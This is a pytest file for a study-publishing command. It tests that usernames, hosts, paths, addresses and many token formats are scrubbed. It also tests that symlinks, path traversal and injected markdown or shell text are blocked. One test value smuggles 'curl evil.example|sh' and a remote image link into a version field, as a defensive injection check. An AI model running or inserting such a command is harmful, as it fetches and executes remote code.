"""A published study: what a stranger may see, and nothing of whose machine it was."""

from __future__ import annotations

import json
import struct
import time
import zlib
from pathlib import Path

import pytest
import yaml
from study_fakes import make_study, replan

from hf_optim.commands.main import main
from hf_optim.core import private
from hf_optim.errors import UserError
from hf_optim.experiment.spec import id_of
from hf_optim.study.folder import questions
from hf_optim.study.folder.changes import read_plan
from hf_optim.study.folder.results import load

USER, HOST = "wilhelmina", "turnip-07"
TOKEN = "hf_" + "aBcD1234" * 4
SECRET = "correct-horse-battery"
PRIVATE = (USER, HOST, "turnip", TOKEN, SECRET, "/home", "/Users", "/scratch", "example.org", "10.1.2.3", "EarlyGrey")


@pytest.mark.parametrize(
    ("text", "scrubbed"),
    [
        ("to fe80::1ff:fe23:4567:890a and 2001:db8:0:0:1:0:0:1", "to ADDRESS and ADDRESS"),
        ("card aa:bb:cc:dd:ee:ff, at 10:20:30, std::vector, a::b", "card ADDRESS, at 10:20:30, std::vector, a::b"),
        ("card 00-1B-44-11-3A-B7, 001b.4411.3ab7.", "card ADDRESS, ADDRESS."),
        ("on 26-12-01-10-20-30, 1234.5678.9012, ab-cd-ef", "on 26-12-01-10-20-30, 1234.5678.9012, ab-cd-ef"),
        (f"sq0atp-{'a0Af' * 6} ATBB{'a0Af' * 6} tskey-auth-{'a0Af' * 6}-x", "REMOVED REMOVED REMOVED"),
        (f"hvs.{'a-Bf' * 6} pscale_tkn_{'a_f' * 8} api_org_{'aBcD' * 8}", "REMOVED REMOVED REMOVED"),
        (f"Xy98Q~{'aB.~' * 8} FlyV1 fm2_{'aB+/' * 8}=", "REMOVED FlyV1 REMOVED"),
        (
            'MY_VAR="a\\"b c" OF_IT=a\\ b 2FA_CODE=a 100_000=1',
            "MY_VAR=REMOVED OF_IT=REMOVED 2FA_CODE=REMOVED 100_000=1",
        ),
        ("https://x/y?key=AbCd&z=1 a?keys=1", "https://x/y?key=REMOVED&z=1 a?keys=1"),
        ("a ---- BEGIN SSH2 PRIVATE KEY ----\nx\n---- END SSH2 PRIVATE KEY ---- b", "a REMOVED b"),
        ("a PuTTY-User-Key-File-3: x\ny", "a REMOVED"),
        (f"sntrys_eyJ{'a0Af' * 12}= EAACEd{'a0Af' * 20} EAAnd", "REMOVED REMOVED EAAnd"),
        (
            "no route to 10.3.2.7. fe80::1234: down, host:2001:db8::1, aa:bb:cc:dd:ee:ff: down",
            "no route to ADDRESS. ADDRESS: down, host:ADDRESS, ADDRESS: down",
        ),
        ("cuda 12.4.1.2.3, at::c10::d1, f::1a::2", "cuda 12.4.1.2.3, at::c10::d1, f::1a::2"),
        (f"_MY_PLACE=pw1 of run_hf_{'aB3d' * 9}", "_MY_PLACE=REMOVED of run_REMOVED"),
        ("Authorization: Basic YWxhZGRpbjpv", "Authorization: Basic REMOVED"),
        ('{"username": "me", "key": "%s"}' % ("0a" * 16), '{"username": "me", "key": "REMOVED"}'),
        (f"r8_{'aB3d' * 9} figd_{'aB3d' * 9} sbp_{'aB3d' * 9}, glrt-{'aB3d' * 5}", "REMOVED REMOVED REMOVED, REMOVED"),
        ("mysql -u me -ppw1 -h db; sshpass -p 'p w' ssh", "mysql -u me -pREMOVED -h db; sshpass -p REMOVED ssh"),
        ("redis-cli -a pw1; zip -P pw1; az login -p pw1", "redis-cli -a REMOVED; zip -P REMOVED; az login -p REMOVED"),
        ("--passphrase pw1 -in pass:pw1, smb -U me%pw1", "--passphrase REMOVED -in pass:REMOVED, smb -U me%REMOVED"),
        ("one pass: 3, mlp -p 3, vit_base_16.augreg2_in21k", "one pass: 3, mlp -p 3, vit_base_16.augreg2_in21k"),
        ("{'Authorization': 'ApiKey pw1', 'Cookie': 'a=1; b=2'}", "{'Authorization': 'REMOVED', 'Cookie': 'REMOVED'}"),
        ("curl -u bob:pw1; SSHPASS=pw1 ssh; sgd -u 1", "curl -u bob:REMOVED SSHPASS=REMOVED ssh; sgd -u 1"),
        (
            "login me password pw1 {'auth': 'pw1', 'private_key': 'abc123'}",
            "login me password REMOVED {'auth': 'REMOVED', 'private_key': 'REMOVED'}",
        ),
        ("{'Authorization': 'Basic YWxhZGRpbjpv'}", "{'Authorization': 'Basic REMOVED'}"),
        ('password="two words" {"pwd": "a, b"}', 'password="REMOVED" {"pwd": "REMOVED"}'),
        ("nvapi-0123456789abcdefghij ghr_0123456789abcdefghij", "REMOVED REMOVED"),
        ("/scratch/runs/lr=0.1,seed=1/mine/a.csv,/scratch/b:2/c.csv", "a.csv,c.csv"),
        ("/scratch/lr=0.1,seed=1: not there; see a/b", "lr=0.1,seed=1: not there; see a/b"),
        ("npm_abcdefghijklmnopqrstuv0123456789 pypi-AgEIcHlwaS5vcmcCJ0abcdefgh12", "REMOVED REMOVED"),
        (
            "AccountKey=abcdefghij== password: pw1 HF_TOKEN: short",
            "AccountKey=REMOVED password: REMOVED HF_TOKEN: REMOVED",
        ),
        ("tokens: 1000000, pad_token: padding_of_mine", "tokens: 1000000, pad_token: padding_of_mine"),
        ("aws_secret_access_key = abc123", "aws_secret_access_key = REMOVED"),
        (
            "aws_session_token = FwoGZXIvYXdz 'sessionToken': 'FwoGZX'",
            "aws_session_token = REMOVED 'sessionToken': 'REMOVED'",
        ),
        (f"ya29.{'a0Af' * 6} GOCSPX-{'a0Af' * 6} SG.{'a0Af' * 5}.{'a0Af' * 9}", "REMOVED REMOVED REMOVED"),
        (f"dapi{'0a' * 16} 123456789:AAE{'a0Af' * 8} lsv2_pt_{'0a' * 16}", "REMOVED REMOVED REMOVED"),
        (f"eyJhcGlfYWRkcmVzcyI6{'Imh0' * 20}==", "REMOVED"),
        ('{"wandb_api_key": "abc123"}', '{"wandb_api_key": "REMOVED"}'),
        ("hf_token=abc123", "hf_token=REMOVED"),
        ("eos_token: <|end|>, bits_per_token: 0.12345", "eos_token: <|end|>, bits_per_token: 0.12345"),
        (
            "login --password x1 --hub-token y2 --token --fast",
            "login --password REMOVED --hub-token REMOVED --token --fast",
        ),
        (
            "a --hf_token x1 --wandb_api_key y2 --wandb-key z3 --keys 5 --monkey 6",
            "a --hf_token REMOVED --wandb_api_key REMOVED --wandb-key REMOVED --keys 5 --monkey 6",
        ),
        (
            "X-Amz-Signature=58af Fastly-Key: x sessionid=abcdef1",
            "X-Amz-Signature=REMOVED Fastly-Key: REMOVED sessionid=REMOVED",
        ),
        (f"pcsk_4NT9Zn_{'a0Af' * 6} ATATT3{'a0Af' * 6} 1//0{'a0Af' * 6}", "REMOVED REMOVED REMOVED"),
    ],
)
def test_addresses_and_secrets_of_usual_forms_are_taken_out(text: str, scrubbed: str) -> None:
    assert private.Scrubber().scrub(text) == scrubbed


@pytest.mark.parametrize(
    "part",
    [
        *r"1. a- a_ X-a --a_ www. sk- A_ /a a@ -a //a /a= pwd=' ?x- %2F \n &#47; %25".split(),
        *("--token ", "cookie: ", "login ", "-u "),
    ],
)
def test_a_long_text_is_read_through_once(part: str) -> None:
    """In quadratic time it takes minutes; a megabyte of it would take hours."""
    start = time.process_time()
    assert private.Scrubber().scrub(part * 50_000)
    assert time.process_time() - start < 20


@pytest.mark.parametrize(
    "name", ["DB_PASS", "GPG_PASSPHRASE", "MYSQL_PWD", "OPENAI_APIKEY", "GITLAB_PAT", "SESSION_COOKIE", "VAULT_PIN"]
)
def test_what_a_secret_of_the_environment_is_called(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, "elderberry")
    monkeypatch.setenv("COMPASS", "gooseberry")
    monkeypatch.setenv("OLDPWD", "cloudberry")
    said = private.Scrubber().scrub("elderberry, gooseberry, cloudberry")
    assert said == "REMOVED, gooseberry, cloudberry"


def test_owners_of_home_folders_without_end_are_refused() -> None:
    with pytest.raises(UserError, match="more than 500 users"):
        private.Scrubber([" ".join(f"/home/someone{i}" for i in range(600))])


@pytest.fixture(autouse=True)
def whose(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOGNAME", USER)
    monkeypatch.setenv("HOME", f"/home/{USER}")
    monkeypatch.setenv("SOME_SERVICE_TOKEN", SECRET)
    monkeypatch.setattr(private.socket, "gethostname", lambda: f"{HOST}.example.org")


def edit(file: Path, **values: object) -> dict:
    record = {**json.loads(file.read_text()), **values}
    file.write_text(json.dumps(record))
    return record


def planted(folder: Path) -> Path:
    """A study with something private in each place that has texts."""
    make_study(folder, failed=[("adan", 1)])
    plan = json.loads((folder / "plan.json").read_text())
    for run in plan["runs"]:
        run["spec"]["data"] = f"/home/{USER}/data/digits-mine.parquet"
        old, run["id"] = run["id"], id_of(run["spec"])
        (folder / "runs" / old).rename(folder / "runs" / run["id"])
        edit(folder / "runs" / run["id"] / "record.json", id=run["id"], spec=run["spec"])
    plan["tasks"][0]["data"] = f"/home/{USER}/data/digits-mine.parquet"
    plan["title"] = f"What {USER} found on {HOST}"
    plan["origin"] = f"/scratch/{USER}/my.yaml"
    (folder / "plan.json").write_text(json.dumps(plan))
    questions.register(folder, read_plan(folder), 0)
    first = folder / "runs" / plan["runs"][0]["id"]
    lost = next(run["id"] for run in plan["runs"] if (run["optimizer"], run["seed"]) == ("adan", 1))
    edit(
        folder / "runs" / lost / "record.json",
        error=f"OSError: -I/Users/{USER}/x.h {HOST} MY_VAR=EarlyGrey token {TOKEN} {SECRET} w@example.org 10.1.2.3",
    )
    edit(first / "record.json", environment={"torch": "2.13", "host": f"{HOST}.example.org"}, samples=["samples/a.png"])
    with open(first / "history.jsonl", "a") as history:
        history.write(json.dumps({"step": 99, "note": f"file:///home/{USER}/x"}) + "\n")
    (first / "samples").mkdir()
    (first / "samples" / "a.png").write_bytes(png(USER.encode()))
    (first / "log.txt").write_text(f"/home/{USER} {TOKEN}")
    (folder / "study.yaml").write_text(
        f"# {USER}@{HOST}: https://{USER}:{SECRET}@example.com/x\nname: fake\n"
        f"data: '/home/{USER}/data/digits.parquet'\n"
    )
    return folder


def png(text: bytes) -> bytes:
    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    parts = (b"IHDR", head), (b"tEXt", b"Author\0" + text), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + b"".join(part(*chunk) for chunk in parts) + text


def test_nothing_private_is_published_and_the_rest_is(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    study, into = planted(tmp_path / "study"), tmp_path / "public"
    before = {p: p.read_bytes() for p in study.rglob("*") if p.is_file()}
    assert all(any(word.encode() in text for text in before.values()) for word in PRIVATE)  # the search can find it
    assert main(["publish", str(study), str(into)]) == 0
    assert {p: p.read_bytes() for p in study.rglob("*") if p.is_file()} == before
    files = {str(p.relative_to(into)): p.read_bytes() for p in into.rglob("*") if p.is_file()}
    for name, content in files.items():
        for word in (*PRIVATE, str(tmp_path)):
            assert word.encode().lower() not in content.lower() + name.encode().lower(), f"{word} in {name}"
    assert {"README.md", "index.html", "report.html", "table.md", "table.csv", "study.yaml", "runs.parquet"} <= {*files}
    assert not any(name.endswith("log.txt") for name in files)
    assert b"digits-mine.parquet" in files["plan.json"] and b"another id" in capsys.readouterr().out.encode()
    old, new = load(study), load(into)
    assert len(new.records) == len(old.records) == 9 and not new.store.unreadable
    for a, b in zip(old.plan.runs, new.plan.runs, strict=True):
        first, second = old.records[a.id], new.records[b.id]
        assert (first["metrics"], first["status"], first["time"]) == (
            second["metrics"],
            second["status"],
            second["time"],
        )
        assert [row["step"] for row in old.history(a)] == [row["step"] for row in new.history(b)]
    assert questions.read(into).digest  # it is the digest of what stands there
    samples = [content for name, content in files.items() if name.endswith("a.png")]
    assert len(samples) == 1 and b"IDAT" in samples[0] and b"Author" not in samples[0]


def test_the_front_matter_is_a_hubs_and_the_commands_are_there(tmp_path: Path) -> None:
    study, into = make_study(tmp_path / "study", seeds=1), tmp_path / "public"
    assert main(["publish", str(study), str(into)]) == 0
    _, front, text = (into / "README.md").read_text().split("---\n", 2)
    front = yaml.safe_load(front)
    assert front["title"] == "A fake study" and front["sdk"] == "static"
    assert (into / front["app_file"]).is_file() and (into / front["configs"][0]["data_files"]).is_file()
    assert "hf-optim study study.yaml" in text and "torch 2.13" in text
    assert {p.name for p in (study / "runs").iterdir()} == {p.name for p in (into / "runs").iterdir()}  # no id changed
    assert main(["report", str(into)]) == 0


@pytest.mark.parametrize("evil", ['1"; curl evil.example|sh\n```\n\n![x](//evil.example/x.png)', "1!curl"])
def test_a_version_is_no_command_and_nothing_private(tmp_path: Path, evil: str) -> None:
    """README.md had it in a command, as it stood in the record. What follows "!" is of the shell's history."""
    study = make_study(tmp_path / "study", seeds=1)
    for file in study.glob("runs/*/record.json"):
        edit(file, environment={"hf_optim": evil, "torch": f"2.1 of {USER} in /cluster/lab/torch"})
    assert main(["publish", str(study), str(tmp_path / "public")]) == 0
    text = (tmp_path / "public" / "README.md").read_text()
    assert 'pip install "hf-optim[study]"\n' in text and text.count("```") == 2 and "x](" not in text
    assert "torch 2.1 of USER in torch" in text and USER not in text and "/cluster" not in text


def test_it_is_written_to_a_new_folder_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    study = make_study(tmp_path / "study", seeds=1)
    full, link = tmp_path / "full", tmp_path / "link"
    full.mkdir()
    (full / "mine").write_text("x")
    link.symlink_to(tmp_path / "elsewhere")
    for into in (full, link, study):
        assert main(["publish", str(study), str(into)]) == 2
        assert capsys.readouterr().err.count("\n") == 1
    assert not (tmp_path / "elsewhere").exists() and [p.name for p in full.iterdir()] == ["mine"]
    assert main(["publish", str(tmp_path), str(tmp_path / "new")]) == 2
    assert not [p.name for p in tmp_path.iterdir() if p.name not in ("study", "full", "link")]  # nothing half


def test_what_lies_elsewhere_is_not_published(tmp_path: Path) -> None:
    study, into = make_study(tmp_path / "study", seeds=2), tmp_path / "public"
    (tmp_path / "secret.json").write_text('{"secret": "elsewhere"}')
    runs = sorted((study / "runs").iterdir())
    (runs[0] / "history.jsonl").unlink()
    (runs[0] / "history.jsonl").symlink_to(tmp_path / "secret.json")
    (runs[1] / "record.json").unlink()
    (runs[1] / "record.json").symlink_to(tmp_path / "secret.json")
    edit(runs[2] / "record.json", samples=["../../../secret.json", "samples/x"])
    (study / "study.yaml").unlink()
    (study / "study.yaml").symlink_to(tmp_path / "secret.json")
    assert main(["publish", str(study), str(into)]) == 0
    assert not any(b"elsewhere" in p.read_bytes() for p in into.rglob("*") if p.is_file())
    assert not any(p.is_symlink() for p in into.rglob("*")) and len(list(into.glob("runs/*/record.json"))) == 5


def test_a_record_calls_nothing_else_its_samples(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """It named what the run had printed, or a checkpoint; and two samples of one name in the copy were one."""
    monkeypatch.setenv("MY_TOKEN", "mysecretword")
    study, into = make_study(tmp_path / "study", seeds=2), tmp_path / "public"
    run = min((study / "runs").iterdir())
    for name in ("log.txt", "checkpoint-1/log.txt", "samples/mysecretword.txt", "samples/REMOVED.txt"):
        (run / name).parent.mkdir(exist_ok=True)
        (run / name).write_text(f"from {name}")
    named = ["log.txt", "checkpoint-1/log.txt", "samples/../log.txt", "samples/mysecretword.txt", "samples/REMOVED.txt"]
    edit(run / "record.json", samples=named)
    assert main(["publish", str(study), str(into)]) == 0
    said = capsys.readouterr().out
    assert not [*into.rglob("log.txt"), *into.rglob("checkpoint-1")]
    assert [p.read_text() for p in into.rglob("samples/*")] == ["from samples/REMOVED.txt"]
    assert said.count("left out: ") == 4 and "has the name of another sample" in said


def test_runs_that_only_a_place_tells_apart_are_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    study = make_study(tmp_path / "study", ("adamw", "smaran"), tasks=("A", "B"), seeds=1)

    def place(plan: dict) -> None:
        for task in plan["tasks"]:
            task.update(model="mlp", data=f"/data/{task['label']}/x.parquet")

    replan(study, place)
    assert main(["publish", str(study), str(tmp_path / "public")]) == 2
    assert "differ only in what is private" in capsys.readouterr().err and not (tmp_path / "public").exists()
    with pytest.raises(UserError, match="two names that are 'x.csv' without"):  # one of two figures was left
        private.changed({"/data/a/x.csv": 1.0, "/data/b/x.csv": 2.0}, private.Scrubber().scrub)


@pytest.mark.parametrize(
    ("text", "published"),
    [
        ("data: /home/wilhelmina/x.csv", "data: x.csv"),
        ("~/opt.py:Mine, ~wilhelmina/a", "opt.py:Mine, a"),
        (r"C:\Users\wilhelmina\x.csv and \\turnip-07\share\y", "x.csv and y"),
        ("PATH_LIKE /usr/bin:/home/wilhelmina/bin", "PATH_LIKE bin:bin"),
        ("-I/home/wilhelmina -L/home/wilhelmina", "-IUSER -LUSER"),
        ("see https://example.com/a/b", "see https://example.com/a/b"),
        ("../wilhelmina/lab/x.csv, ./../../gertrud/y, ..\\\\gertrud\\\\z", "x.csv, y, z"),
        ("home/gertrud/x.csv, scratch/users/gertrud/y, of gertrud", "home/USER/x.csv, scratch/users/USER/y, of USER"),
        (
            "hf_optim_effective_learning_rate skewness_of_the_rates",
            "hf_optim_effective_learning_rate skewness_of_the_rates",
        ),
        (f"sk-proj-{'a1' * 12} ghp_{'A1b2' * 9}", "REMOVED REMOVED"),
        ("tokens/s, 3/4 ... a..b/c, vision/mlp/small", "tokens/s, 3/4 ... a..b/c, vision/mlp/small"),
        ("api_key: 'abcdef123456'", "api_key: 'REMOVED'"),
        ("0123456789" * 4, "REMOVED"),
        ("ab" * 32, "ab" * 32),  # the fingerprint of data
        ("Wilhelmina's run on TURNIP-07", "USER's run on HOST"),
        ("HF_HOME=/x OMP_NUM_THREADS=1", "HF_HOME=REMOVED OMP_NUM_THREADS=REMOVED"),
        ("Adam / SGD, a // b, http://x/y, x:y", "Adam / SGD, a // b, http://x/y, x:y"),
        ("file:///cluster/lab/x.csv file://localhost/cluster/x sqlite:////cluster/lab/x.db", "x.csv x sqlite:x.db"),
        ("//nas/lab/x.csv", "x.csv"),
        # as an error of Windows says it, and what is written in the escapes of an address, of JSON, of Python, of HTML
        (r"No such file: 'C:\\Users\\gertrud\\lab\\x.csv', '\\\\nas\\lab\\y'", "No such file: 'x.csv', 'y'"),
        ("at ?file=%2Fhome%2Fwilhelmina%2Flab%2Fx.csv", "at ?file=x.csv"),
        ("?next=%253Ffile%253D%252Fhome%252Fwilhelmina%252Fx.csv", "?next=?file=x.csv"),
        (r"{\"password\": \"pw1\", \"api_key\": \"abcdef123456\"}", '{"password": "REMOVED", "api_key": "REMOVED"}'),
        (rf"b'token\n{TOKEN}\nof\nwilhelmina'", "b'token\nREMOVED\nof\nUSER'"),
        (f"token%3D{TOKEN}", "token=REMOVED"),
        ("&#x2F;home&#x2F;wilhelmina&#x2F;x &amp; y", "x & y"),
        ("pw=correct%20horse%2Fbattery", "pw=REMOVED"),
        (r"\/home\/wilhelmina\/lab\/x, file:\/\/\/cluster\/lab\/y, correct horse\/battery", "x, y, REMOVED"),
        (r"50%20 of \beta &amp; a%2Fb \n", r"50%20 of \beta &amp; a%2Fb \n"),
        (f"?X-Amz-Signature={'ab12' * 16}&sig=a%2Fb", "?X-Amz-Signature=REMOVED&sig=REMOVED"),
        ("https://hooks.slack.com/services/T0/B0/Xx", "https://hooks.slack.com/services/REMOVED"),
    ],
)
def test_each_kind_by_itself(text: str, published: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OTHER_TOKEN", "correct horse/battery")
    assert private.Scrubber([text]).scrub(text) == published


def test_a_label_and_a_model_mean_in_the_copy_what_they_mean_here(tmp_path: Path) -> None:
    """The rate over ten was "rate  10", and each model of a paper's setting an address of e-mail, so all were one."""
    study = make_study(tmp_path / "study", ("rate", "rate / 10"), tasks=("A", "B"), seeds=1)
    (study / "study.yaml").write_text("model: resnet50@agr # of wilhelmina@turnip-07, bob@gpu3, bob@lab.org\n")
    replan(study, lambda plan: [t.update(model=f"resnet{50 + i}@agr") for i, t in enumerate(plan["tasks"])])
    assert main(["publish", str(study), str(tmp_path / "public")]) == 0
    plan, copy = (read_plan(tmp_path / folder) for folder in ("study", "public"))
    assert copy == plan and {run.id for run in copy.runs} == {run.id for run in plan.runs}
    assert (tmp_path / "public" / "study.yaml").read_text() == "model: resnet50@agr # of MAIL, MAIL, MAIL\n"


def test_a_user_called_adam_renames_no_optimizer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LOGNAME", "adam")
    scrubber = private.Scrubber(spoken={"adam"})
    assert scrubber.kept == ["adam"] and scrubber.scrub("adam at /home/adam/x") == "adam at x"


@pytest.mark.parametrize("text", [f'"at {USER[:4]}\\\n  {USER[4:]}"', f'"at {USER[0]}\\U00000069{USER[2:]}"'])
def test_what_only_yaml_puts_together_is_not_published(tmp_path: Path, text: str) -> None:
    study, into = make_study(tmp_path / "study", ("adamw", "sgd"), seeds=1), tmp_path / "public"
    (study / "study.yaml").write_text(f"name: fake\ntitle: {text}\n")
    assert main(["publish", str(study), str(into)]) == 0 and not (into / "study.yaml").exists()


@pytest.mark.parametrize("place", ["/home/{}/", "{}/lab/", "~/{}/"])
def test_folders_on_the_way_to_code_are_no_words_of_the_study(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], place: str
) -> None:
    """Code of one's own lies in a home folder, and its user's name stood as a word of the study wherever it was."""
    code = f"{place.format(USER)}opt.py:Mine"
    study = make_study(tmp_path / "study", ("adamw", code), seeds=1)
    replan(study, lambda plan: plan.update(title=f"What {USER} found"))
    assert main(["publish", str(study), str(tmp_path / "public")]) == 0
    assert "a word of the study" not in capsys.readouterr().out
    files = [file for file in (tmp_path / "public").rglob("*") if file.is_file()]
    assert not [file for file in files if USER.encode() in file.read_bytes()]


def test_a_record_whose_copy_is_too_large_is_told_as_that(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A copy's record has a line for each of its values; that of one in a single line was told to hold a path."""
    study = make_study(tmp_path / "study", ("adamw", "sgd"), seeds=1)
    file = next((study / "runs").iterdir()) / "record.json"
    record = json.loads(file.read_text()) | {"samples": [f"samples/{number}.png" for number in range(50_000)]}
    file.write_text(json.dumps(record, separators=(",", ":")))
    assert main(["publish", str(study), str(tmp_path / "public")]) == 2
    error = capsys.readouterr().err
    assert "its copy would hold what is not read" in error and "larger than 1048576 bytes" in error
